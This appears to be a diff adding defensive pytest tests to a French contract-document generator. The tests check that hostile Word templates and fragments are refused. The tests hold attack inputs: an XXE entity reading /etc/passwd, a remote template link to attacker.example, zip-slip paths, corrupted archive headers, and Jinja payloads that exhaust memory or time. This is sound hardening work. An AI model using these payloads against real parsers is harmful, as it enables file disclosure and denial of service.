@@ -110,3 +110,242 @@ def test_L13_error_list_is_capped(runner, tmp_path: Path) -> None:  # type: igno
     result = runner.invoke(cli, ["faisabilite", str(dossier)])
     _refused(result, 2, "autres erreurs")
     assert len(result.output.splitlines()) < 40
+
+
+# --- fragments and skeletons run bounded (H1, M2, M3, L2, L15) ---------------------------------
+
+
+def _overlay(folder: Path, body: str, *, statut: str = "valide", revue: bool = True) -> Path:
+    head = (LIBRARY / "fragments" / "general.objet" / "1.0.0.md").read_text(encoding="utf-8")
+    head = head.split("---\n")[1].replace("statut: valide", f"statut: {statut}")
+    if not revue:
+        head = head.split("revue:")[0]
+    target = folder / "fragments" / "general.objet"
+    target.mkdir(parents=True)
+    (target / "1.0.0.md").write_text(f"---\n{head}---\n{body}\n", encoding="utf-8")
+    return folder
+
+
+def _ccap_with_overlay(runner, tmp_path: Path, body: str):  # type: ignore[no-untyped-def]
+    overlay = _overlay(tmp_path / "bib", body)
+    out = tmp_path / "sortie"
+    out.mkdir()
+    result = runner.invoke(cli, ["ccap", str(NETTOYAGE), "-o", str(out / "ccap.docx"),
+                                 "--bibliotheque", str(overlay)])
+    assert _files(out) == []
+    return result
+
+
+def _skeleton(tmp_path: Path, text: str | None = None, *, parts: dict[str, bytes] | None = None,
+              name: str = "m.docx") -> Path:
+    import zipfile
+    from xml.sax.saxutils import escape
+
+    with zipfile.ZipFile(ROOT / "templates" / "piece.docx") as source:
+        members = {i.filename: source.read(i.filename) for i in source.infolist()}
+    if text is not None:
+        document = members["word/document.xml"].decode("utf-8")
+        slot = document.index("{{p corps }}")
+        start = max(document.rfind("<w:p>", 0, slot), document.rfind("<w:p ", 0, slot))
+        paragraph = f"<w:p><w:r><w:t>{escape(text)}</w:t></w:r></w:p>"
+        members["word/document.xml"] = (document[:start] + paragraph + document[start:]).encode("utf-8")
+    members.update(parts or {})
+    path = tmp_path / name
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
+        for member, data in members.items():
+            archive.writestr(member, data)
+    return path
+
+
+def _ccap_with_skeleton(runner, tmp_path: Path, modele: Path | str):  # type: ignore[no-untyped-def]
+    out = tmp_path / "sortie"
+    out.mkdir(exist_ok=True)
+    result = runner.invoke(cli, ["ccap", str(NETTOYAGE), "-o", str(out / "ccap.docx"),
+                                 "--modele", str(modele)])
+    assert _files(out) == [], result.output
+    return result
+
+
+def test_H1_skeleton_loop_is_interrupted(runner, tmp_path: Path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
+    from clausegen import templating
+
+    monkeypatch.setattr(templating, "RENDER_TIME_LIMIT", 0.5)
+    loop = "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}"
+    result = _ccap_with_skeleton(runner, tmp_path, _skeleton(tmp_path, loop))
+    _refused(result, 2, "Modèle Word", "rendu interrompu après 0.5 s")
+
+
+def test_H1_skeleton_huge_strings_are_refused(runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+    cases = {
+        "{{ '{:>300000000}'.format(1) }}": "Modèle Word",
+        "{{ 'x'|center(300000000) }}": "center",
+        "{{ 'x' * 10**9 }}": "répétition trop longue",
+        "{% set ns = namespace(s='xxxxxxxx') %}{% for i in range(40) %}{% set ns.s = ns.s ~ ns.s %}"
+        "{% endfor %}{{ ns.s|length }}": "trop long",
+    }
+    for index, (field, message) in enumerate(cases.items()):
+        folder = tmp_path / str(index)
+        folder.mkdir()
+        result = _ccap_with_skeleton(runner, folder, _skeleton(folder, field))
+        _refused(result, 2, "Modèle Word", message)
+
+
+def test_M2_fragment_runtime_errors_are_french(runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+    cases = {
+        "{{ ccag_ref('penalite_plafond') }}": "clé CCAG inconnue",
+        "{{ ccag_ref(none) }}": "clé CCAG inconnue",
+        "{% macro f(n) %}{{ f(n) }}{% endmacro %}{{ f(1) }}": "appels récursifs sans fin",
+        "{{ marche.objet | date_longue }}": "mauvais type",
+        "{{ marche.objet | libelle }}": "mauvais type",
+        "{{ marche.objet | montant }}": "nombre attendu",
+        "{{ none | pourcentage }}": "mauvais type",
+    }
+    for index, (body, message) in enumerate(cases.items()):
+        result = _ccap_with_overlay(runner, tmp_path / str(index), body)
+        _refused(result, 2, "Fragment « general.objet »", message)
+
+
+def test_M3_doubling_with_tilde_plus_or_extend_is_bounded(runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+    cases = [
+        "{% set ns = namespace(s=[1,2,3,4,5,6,7,8]) %}{% for i in range(24) %}"
+        "{% set ns.s = ns.s + ns.s %}{% endfor %}{{ ns.s|length }}",
+        "{% set ns = namespace(s='abcdefgh') %}{% for i in range(40) %}"
+        "{% set ns.s = ns.s ~ ns.s %}{% endfor %}{{ ns.s|length }}",
+        "{% set s = [1] %}{% for i in range(40) %}{% if s.extend(s) %}{% endif %}{% endfor %}",
+        "{{ (['x' * 1000000] * 1000000) | join }}",
+    ]
+    for index, body in enumerate(cases):
+        result = _ccap_with_overlay(runner, tmp_path / str(index), body)
+        _refused(result, 2, "Fragment « general.objet »", "trop long")
+
+
+def test_L2_canevas_condition_has_a_time_limit(monkeypatch) -> None:  # type: ignore[no-untyped-def]
+    from clausegen import templating
+    from clausegen.errors import FragmentRenderError
+
+    monkeypatch.setattr(templating, "RENDER_TIME_LIMIT", 0.3)
+    slow = " and ".join(["(lipsum(100000) | length) > 0"] * 8)
+    import pytest
+
+    with pytest.raises(FragmentRenderError, match="interrompu"):
+        templating.evaluate_condition(slow, {}, where="canevas ccap")
+    assert templating.evaluate_condition("(lipsum(1) | length) > 0", {}, where="canevas ccap") is True
+
+
+def test_L15_filter_errors_are_readable(runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+    result = _ccap_with_overlay(runner, tmp_path, "{{ marche.objet | en_lettres }}")
+    _refused(result, 2, "nombre attendu")
+    assert "ConversionSyntax" not in result.output
+
+
+# --- hostile skeletons (M4, M5, M6) -----------------------------------------------------------
+
+
+def _raw_zip(path: Path, members: dict[str, bytes], *, patch=None) -> Path:  # type: ignore[no-untyped-def]
+    import zipfile
+
+    with zipfile.ZipFile(ROOT / "templates" / "piece.docx") as source:
+        parts = {i.filename: source.read(i.filename) for i in source.infolist()}
+    parts.update(members)
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as archive:
+        for member, data in parts.items():
+            archive.writestr(member, data)
+    if patch is not None:
+        path.write_bytes(patch(path.read_bytes()))
+    return path
+
+
+def _local_header_patch(field_offset: int, value: bytes):  # type: ignore[no-untyped-def]
+    """Patch a field of word/document.xml's local header and central directory entry."""
+    def patch(data: bytes) -> bytes:
+        name = b"word/document.xml"
+        buffer = bytearray(data)
+        start = 0
+        while True:
+            start = buffer.find(name, start)
+            if start < 0:
+                break
+            if buffer[start - 30:start - 26] == b"PK\x03\x04":
+                offset = start - 30 + field_offset
+                buffer[offset:offset + len(value)] = value
+            elif buffer[start - 46:start - 42] == b"PK\x01\x02":
+                offset = start - 46 + field_offset + 2
+                buffer[offset:offset + len(value)] = value
+            start += len(name)
+        return bytes(buffer)
+    return patch
+
+
+def test_M4_damaged_encrypted_or_unknown_compression_skeleton(runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+    import struct
+
+    bad_crc = _raw_zip(tmp_path / "crc.docx", {}, patch=_local_header_patch(14, struct.pack("<L", 1)))
+    method = _raw_zip(tmp_path / "method.docx", {}, patch=_local_header_patch(8, struct.pack("<H", 99)))
+    encrypted = _raw_zip(tmp_path / "enc.docx", {}, patch=_local_header_patch(6, struct.pack("<H", 1)))
+    for modele, message in ((bad_crc, "archive illisible"), (method, "compressé d'une façon inconnue"),
+                            (encrypted, "archive chiffrée")):
+        result = _ccap_with_skeleton(runner, tmp_path, modele)
+        _refused(result, 2, "Modèle Word", message)
+
+
+def test_M5_device_or_fifo_skeleton_is_refused(runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+    import os
+
+    fifo = tmp_path / "fifo.docx"
+    os.mkfifo(fifo)
+    for modele in ("/dev/zero", "/dev/urandom", str(fifo)):
+        result = _ccap_with_skeleton(runner, tmp_path, modele)
+        _refused(result, 2, "Modèle Word", "ce n'est pas un fichier")
+
+
+def test_M6_hostile_parts_in_a_skeleton_are_refused(runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+    doctype = b'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
+    with __import__("zipfile").ZipFile(ROOT / "templates" / "piece.docx") as source:
+        document = source.read("word/document.xml")
+        core = source.read("docProps/core.xml")
+    def with_doctype(xml: bytes) -> bytes:
+        end = xml.index(b"?>") + 2
+        return xml[:end] + doctype + xml[end:]
+
+    remote = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns='
+              b'"http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
+              b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
+              b' Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>')
+    cases = {
+        "xxe-document": ({"word/document.xml": with_doctype(document)},
+                         "DOCTYPE ou ENTITY interdite"),
+        "xxe-core": ({"docProps/core.xml": with_doctype(core)},
+                     "DOCTYPE ou ENTITY interdite"),
+        "modele-distant": ({"word/_rels/settings.xml.rels": remote}, "fichier extérieur"),
+        "zip-slip": ({"../../../../x.txt": b"x"}, "nom de membre"),
+        "absolu": ({"/abs/evil.txt": b"x"}, "nom de membre"),
+    }
+    for index, (members, message) in cases.items():
+        folder = tmp_path / index
+        folder.mkdir()
+        result = _ccap_with_skeleton(runner, folder, _raw_zip(folder / "m.docx", members))
+        _refused(result, 2, "Modèle Word", message)
+
+
+def test_M6_undeclared_members_are_dropped_and_duplicates_refused(runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+    import io
+    import zipfile
+
+    junk = {f"junk/{i}.bin": b"x" for i in range(50)}
+    modele = _raw_zip(tmp_path / "junk.docx", junk)
+    out = tmp_path / "c.docx"
+    result = runner.invoke(cli, ["ccap", str(NETTOYAGE), "-o", str(out), "--modele", str(modele)])
+    assert result.exit_code == 0, result.output
+    names = zipfile.ZipFile(io.BytesIO(out.read_bytes())).namelist()
+    assert not any(n.startswith("junk/") for n in names)
+    duplicated = tmp_path / "dup.docx"
+    with zipfile.ZipFile(duplicated, "w") as archive, zipfile.ZipFile(modele) as source:
+        for info in source.infolist():
+            archive.writestr(info.filename, source.read(info))
+        import warnings
+
+        with warnings.catch_warnings():
+            warnings.simplefilter("ignore")
+            archive.writestr("word/document.xml", source.read("word/document.xml"))
+    result = _ccap_with_skeleton(runner, tmp_path, duplicated)
+    _refused(result, 2, "en double")
